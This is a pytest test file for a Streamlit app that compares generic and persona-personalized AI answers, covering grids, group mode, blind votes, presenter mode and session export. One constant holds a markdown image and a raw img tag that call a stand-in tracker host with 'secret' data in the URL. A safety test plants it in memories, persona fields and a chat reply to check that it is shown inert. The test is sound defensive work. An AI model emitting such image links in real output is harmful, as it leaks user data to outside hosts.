"""The comparison stage in the app: columns, grid, blind votes, presenter mode, export, safety."""

import re

import pytest
from streamlit.testing.v1 import AppTest

from personalab import NewMemory, PersonaLibrary
from personalab.stage.votes import Vote, VoteBook
from tests.conftest import ROOT

pytestmark = pytest.mark.slow  # the stage with the real model

PERSONA = "lena-vegan-marathoner"
EVIL = "![pixel](http://tracker.example/p.png?d=secret) <img src=http://tracker.example/x.png>"


def start(page: str, persona: str = PERSONA) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=300).run()
    at.selectbox(key="persona_id").set_value(persona).run()
    at.switch_page(f"app_pages/{page}.py").run()
    assert not at.exception, at.exception
    return at


def column_titles(at: AppTest) -> list[str]:
    return [c.markdown[0].value for c in at.columns if c.markdown]


def test_chosen_columns_all_answer_and_share_one_recall():
    """Four column kinds answer one message; each column has its text and timings."""
    at = start("compare")
    at.multiselect(key="compare_kinds").set_value(["generic", "persona", "memory", "personalized"])
    at.chat_input(key="compare_message").set_value("Plan my Sunday.").run()
    assert not at.exception
    titles = column_titles(at)
    for title in ("Generic", "Persona only", "Memory only", "Personalized"):
        assert any(title in t for t in titles), titles
    captions = [c.value for c in at.caption]
    assert sum("first token" in c for c in captions) == 4


def test_a_persona_grid_answers_for_each_persona_with_its_own_memories():
    """The grid puts one personalized column per chosen persona, titled with its name."""
    at = start("compare")
    at.segmented_control(key="compare_mode").set_value("Persona grid").run()
    grid = ["lena-vegan-marathoner", "margaret-retired-teacher", "ananya-olympiad-student"]
    at.multiselect(key="grid_personas").set_value(grid)
    at.chat_input(key="compare_message").set_value("Plan my weekend.").run()
    titles = column_titles(at)
    for name in ("Lena Vogel", "Margaret Holt", "Ananya Iyer"):
        assert any(name in t for t in titles), titles


def test_group_mode_shows_generic_one_member_and_the_group_each_with_a_matrix():
    """Group mode: three columns (generic, one member alone, the group), and under each a row
    per member with a badge per constraint and the 'kept for' line; the clash of two
    languages is named before the answers."""
    at = start("compare")
    at.segmented_control(key="compare_mode").set_value("Group").run()
    at.selectbox(key="compare_group").set_value("language-cafe").run()
    at.chat_input(key="compare_message").set_value("What should we cook?").run()
    assert not at.exception, at.exception
    titles = column_titles(at)
    assert titles[:3] == ["**Generic**", "**Guadalupe Hernández alone**",
                          "**The group: Language café**"]  # fmt: skip
    assert any("one language" in w.value for w in at.warning)
    kept = [c.value for c in at.caption if "constraint of" in c.value]
    assert len(kept) == 3 and all(re.search(r"of \d of 2 members", k) for k in kept)
    badges = [m for m in at.markdown if "badge[" in m.value and "Answers must be in" in m.value]
    assert len(badges) == 3 * 2  # each column: each member's language rule
    at.chat_input(key="compare_message").set_value("And a dessert?").run()
    assert not at.exception and len([c for c in at.caption if "constraint of" in c.value]) == 6


def test_group_mode_shows_the_judges_verdict_for_each_member(monkeypatch, llama_server):
    """With a judge set up (here llama.cpp's server), the group answer gets one judge line per
    member, named: a verdict badge, or why the judge could not rate it for them."""
    monkeypatch.setenv("PERSONALAB_JUDGE_MODEL", "smollm2")
    monkeypatch.setenv("PERSONALAB_JUDGE_BASE_URL", llama_server)
    at = start("compare")
    at.segmented_control(key="compare_mode").set_value("Group").run()
    at.selectbox(key="compare_group").set_value("language-cafe").run()
    at.chat_input(key="compare_message").set_value("What should we cook?").run()
    assert not at.exception, at.exception
    badges = [m.value for m in at.markdown if "about them" in m.value]
    failed = [c.value for c in at.caption if "could not rate this for" in c.value]
    assert len(badges) + len(failed) == 2  # one line for each of the two members
    assert all("Guadalupe" in f or "Yasmin" in f for f in failed)


def test_present_shows_a_group_with_its_prepared_questions():
    """Present, Group: the group's prepared question is one click; generic, a member alone and
    the group answer, with each member's checks and the 'kept for' line; stored in the
    group's own scope."""
    at = start("present")
    at.segmented_control(key="present_mode").set_value("Group").run()
    at.selectbox(key="compare_group").set_value("friday-dinner").run()
    assert not at.exception and any("Friday dinner" in t.value for t in at.title)
    question = "What dessert can we all eat?"
    next(b for b in at.button if b.label == question).click().run()
    assert not at.exception, at.exception
    assert any(question in t.value for t in at.text)
    titles = column_titles(at)
    assert "**The group: Friday dinner**" in titles and "**Generic**" in titles
    kept = [c.value for c in at.caption if "constraint of" in c.value]
    assert len(kept) == 3 and all(re.search(r"of \d of 3 members", k) for k in kept)
    from app_pages.ui import resources

    store = resources.store(resources.base_settings())
    turns = store.list("tester", "group-friday-dinner", kind="turn")
    assert [t.text for t in turns if t.role == "user"] == [question]  # in the group's own scope


def test_a_blind_vote_hides_labels_keeps_tallies_and_reveals():
    """Answers stay unlabelled until the vote; then labels show and the tally counts it."""
    at = start("compare")
    at.toggle(key="blind_vote").set_value(True).run()
    at.chat_input(key="compare_message").set_value("What should I cook tonight?").run()
    titles = column_titles(at)
    assert any("Answer A" in t for t in titles) and not any("Generic" in t for t in titles)
    vote = next(b for b in at.button if b.label == "Answer B")
    vote.click().run()
    assert any("Voted:" in s.value for s in at.success)
    titles = column_titles(at)
    assert any("Generic" in t for t in titles) and any("Personalized" in t for t in titles)
    from app_pages.ui import resources

    votes = VoteBook(resources.store(resources.base_settings())).all()
    assert len(votes) == 1 and set(votes[0].shown) == {"generic", "personalized"}


def test_votes_show_as_win_rates_on_compare_and_evaluate():
    """Votes kept in the store are shown as win rates, with intervals, on Compare and Evaluate."""
    from app_pages.ui import resources

    at = start("compare")
    book = VoteBook(resources.store(resources.base_settings()))
    for winner in ("personalized", "personalized", "tie"):
        book.add(Vote(PERSONA, "m", ("generic", "personalized"), winner))
    for page in ("compare", "evaluate"):
        at.switch_page(f"app_pages/{page}.py").run()
        table = next(d.value for d in at.dataframe if "win rate" in d.value.columns)
        rows = {r["answer"]: r for r in table.to_dict("records")}
        personal = rows[next(k for k in rows if k.startswith("Personalized"))]
        assert (personal["wins"], personal["votes"], personal["win rate"]) == (2, 3, "67%")
        assert personal["95 % interval"] == "21%-94%"


def test_presenter_mode_sends_a_prepared_question_with_one_click(monkeypatch):
    """Present: a prepared question's button sends it; both columns answer and it is stored."""
    monkeypatch.setenv("PERSONALAB_SEED_PERSONAS", "1")
    at = start("present")
    lena = PersonaLibrary(ROOT / "personas").get(PERSONA)
    next(b for b in at.button if b.label == lena.probes[0].question).click().run()
    assert not at.exception
    assert any(lena.probes[0].question in t.value for t in at.text)  # shown as typed, inert
    titles = column_titles(at)
    assert any("Generic" in t for t in titles) and any("Personalized" in t for t in titles)
    from app_pages.ui import resources

    store = resources.store(resources.base_settings())
    assert store.count("tester", PERSONA) > lena.seed.size  # the exchange was stored


def test_reset_demo_restores_exactly_the_seed(monkeypatch):
    """Present: after other memories were added, Reset demo leaves the seed history alone."""
    monkeypatch.setenv("PERSONALAB_SEED_PERSONAS", "1")
    at = start("present")
    lena = PersonaLibrary(ROOT / "personas").get(PERSONA)
    from app_pages.ui import resources

    store = resources.store(resources.base_settings())
    store.remember("tester", PERSONA, [NewMemory("I moved to Hamburg.", "user", "later")])
    next(b for b in at.button if b.label == "Reset demo").click().run()
    turns = [m.text for m in store.list("tester", PERSONA) if m.kind == "turn"]
    assert len(turns) == len(lena.seed.turns) and "I moved to Hamburg." not in turns


def compared() -> AppTest:
    at = start("compare")
    at.chat_input(key="compare_message").set_value("Plan my Sunday.").run()
    return at


def test_a_session_exports_as_markdown_and_json():
    """Compare offers the session as Markdown and JSON, each holding the message."""
    from personalab.stage.transcript import read_session, session_json, session_markdown

    at = compared()
    downloads = {b.label: b for b in at.get("download_button")}
    assert {"Export Markdown", "Export JSON"} <= set(downloads)
    rounds = at.session_state["compare_rounds"][f"tester\0{PERSONA}"]
    assert read_session(session_json(rounds, "tester"))["rounds"][0]["message"] == (
        "Plan my Sunday."
    )
    assert "## 1. Plan my Sunday." in session_markdown(rounds, "tester")


def test_an_exported_session_reopens_read_only_with_the_same_text():
    """An exported JSON session opens again, read only, showing the answers as they were."""
    from personalab.stage.transcript import read_session, session_json

    at = compared()
    rounds = at.session_state["compare_rounds"][f"tester\0{PERSONA}"]
    session = read_session(session_json(rounds, "tester"))
    at.session_state["replay"] = session
    at.run()
    assert any("(read only)" in h.value for h in at.subheader)
    answers = [c["text"] for c in session["rounds"][0]["columns"]]
    shown = [m.value for m in at.markdown]
    assert any(a.strip() for a in answers)
    assert all(any(a[:40] in s for s in shown) for a in answers if a.strip())


def test_untrusted_text_never_loads_anything_on_any_page(isolated_env):
    """A remote image and raw HTML planted in a memory, a persona field and (echoed) a reply
    are shown as text and links only, on every page."""
    library = PersonaLibrary(isolated_env / "personas")
    lena = library.get(PERSONA)
    lena.summary = f"{EVIL} Vegan runner"
    lena.preferences.append(EVIL)
    library.save(lena, overwrite=True)
    at = start("chat")
    from app_pages.ui import resources

    store = resources.store(resources.base_settings())
    store.remember("tester", PERSONA, [NewMemory(f"Note: {EVIL}", "user", "old")])
    at.chat_input(key="chat_message").set_value(f"Repeat this: {EVIL}").run()
    for page in ("chat", "compare", "memory", "personas", "present"):
        at.switch_page(f"app_pages/{page}.py").run()
        rendered = [m.value for m in at.markdown] + [c.value for c in at.caption]
        rendered += [t.value for t in at.title]
        for text in rendered:  # escaped ("\\![") is shown as text; an image would be "!["
            assert not re.search(r"(?<!\\)<img", text), (page, text)
            assert not re.search(r"(?<!\\)!\[[^\]]*\]\(http", text), (page, text)
